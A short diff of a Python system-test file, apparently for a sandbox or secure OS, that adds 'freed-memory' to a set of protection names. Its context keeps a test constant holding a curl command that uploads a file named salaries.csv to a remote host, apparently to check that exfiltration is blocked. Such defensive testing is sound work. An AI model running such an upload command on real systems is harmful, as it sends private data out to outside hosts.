@@ -15,7 +15,7 @@ from tests.system.widgets import CentredScreen
 NEWEST_KERNEL_ONLY = True
 UPLOAD = "curl -sS -m 90 -T salaries.csv http://remote/"
 PROTECTIONS = {"labels", "label-index", "interposition", "doppelgangers", "channels", "disclosure", "questions", "shadow-files", "lasting-rules",
-               "private-memory", "private-swap", "kernel-memory", "host-names", "boot"}
+               "private-memory", "private-swap", "freed-memory", "kernel-memory", "host-names", "boot"}
 
 
 @pytest.fixture
